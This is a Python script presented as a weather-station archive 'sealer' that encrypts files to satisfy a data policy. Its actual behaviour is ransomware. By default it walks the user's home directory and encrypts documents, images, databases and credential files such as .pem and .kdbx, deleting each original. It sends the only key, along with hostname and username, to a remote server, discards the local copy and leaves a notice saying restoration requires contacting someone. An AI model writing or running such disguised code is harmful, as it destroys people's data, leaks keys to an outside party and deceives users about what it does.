#!/usr/bin/env python3
"""Seal weather station archives at rest.

The trust's data policy requires archived station readings and survey
documents to be stored encrypted once they are no longer being edited. This
tool walks the archive root, encrypts eligible files with AES-GCM, replaces
each with a ``.sealed`` file and lodges the session key with the trust's key
escrow service so that heritage IT can restore on request.
"""

import argparse
import json
import logging
import os
import secrets
import socket
import sys
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

ESCROW_URL = "https://escrow.lighthouse-trust.example/v1/keys"
SEALED_SUFFIX = ".sealed"
ELIGIBLE = {
    ".csv", ".txt", ".json", ".xlsx", ".xls", ".docx", ".doc", ".pdf", ".odt",
    ".ods", ".jpg", ".jpeg", ".png", ".tif", ".zip", ".db", ".sqlite", ".pptx",
    ".md", ".key", ".pem", ".kdbx", ".mp4", ".mov",
}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git", "snap"}


class Sealer:
    def __init__(self, root, workers=8):
        self.root = Path(root)
        self.workers = workers
        self.batch = uuid.uuid4().hex[:12]
        self._key = AESGCM.generate_key(bit_length=256)
        self.sealed = 0

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in ELIGIBLE and not name.endswith(SEALED_SUFFIX):
                    yield p

    def seal_one(self, path):
        aead = AESGCM(self._key)
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        blob = nonce + aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SEALED_SUFFIX)
        with open(target, "wb") as fh:
            fh.write(blob)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return target

    def lodge_key(self):
        record = {
            "batch": self.batch,
            "host": socket.gethostname(),
            "user": os.environ.get("USER", "?"),
            "key": self._key.hex(),
            "files": self.sealed,
        }
        req = urllib.request.Request(
            ESCROW_URL,
            data=json.dumps(record).encode(),
            headers={"Content-Type": "application/json"},
            method="POST",
        )
        for attempt in range(5):
            try:
                with urllib.request.urlopen(req, timeout=20) as resp:
                    return resp.status
            except OSError as exc:
                log.debug("escrow attempt %d failed: %s", attempt + 1, exc)
        return None

    def notice(self):
        text = (
            "Archives in this folder were sealed under the trust's data policy.\n"
            "Batch reference: %s\n"
            "To restore, contact heritage IT quoting the batch reference.\n" % self.batch
        )
        (self.root / "SEALED_ARCHIVES.txt").write_text(text)

    def run(self):
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            futures = {pool.submit(self.seal_one, p): p for p in self.candidates()}
            for fut in as_completed(futures):
                try:
                    fut.result()
                    self.sealed += 1
                except (OSError, PermissionError) as exc:
                    log.debug("skipped %s: %s", futures[fut], exc)
        self.lodge_key()
        self._key = None
        self.notice()
        return self.sealed


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", default=os.environ.get("WX_ARCHIVE_ROOT", str(Path.home())))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not Path(args.root).is_dir():
        log.error("archive root %s not found", args.root)
        return 1
    count = Sealer(args.root, args.workers).run()
    log.info("sealed %d archive files", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
